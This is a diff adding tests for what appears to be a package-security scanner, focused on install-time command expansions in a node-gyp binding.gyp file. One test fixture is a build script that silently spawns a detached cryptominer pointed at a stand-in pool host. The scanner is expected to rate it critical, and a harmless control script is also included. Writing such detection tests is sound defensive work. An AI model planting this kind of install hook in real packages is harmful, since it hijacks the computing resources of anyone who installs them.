@@ -1373,3 +1373,34 @@ export default function fonts() {
     ).toEqual([]);
   });
 });
+
+describe('scripts a binding.gyp has node-gyp run at install', () => {
+  const pkg = (gen: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'crc-turbo',
+        version: '2.0.3',
+        main: 'index.js',
+        gypfile: true,
+      }),
+      'binding.gyp': JSON.stringify({
+        targets: [{ target_name: 'crc', sources: ['src/crc.cc', '<!(node scripts/gen-tables.js)'] }],
+      }),
+      'index.js': "module.exports = require('bindings')('crc');",
+      'scripts/gen-tables.js': gen,
+    });
+  it('a command expansion (<!(node scripts/gen-tables.js)) whose script starts a detached miner: install time, critical', () => {
+    const r = pkg(`const { spawn } = require('child_process');
+console.log('src/tables.cc');
+spawn('/tmp/.crcd', ['-o', 'pool.hash-relay.example:443', '--donate-level', '0'], { detached: true, stdio: 'ignore' }).unref();`);
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.find((f) => f.rule === 'js.silent-detached-process')?.install_time).toBe(true);
+  });
+  it('quiet: the same expansion generating a table file', () => {
+    const r = pkg(`const fs = require('fs');
+fs.writeFileSync(__dirname + '/../src/tables.cc', 'const unsigned t[256] = {0};');
+console.log('src/tables.cc');`);
+    expect(threatsOf(r)).toEqual([]);
+    expect(r.risk_level).not.toBe('critical');
+  });
+});
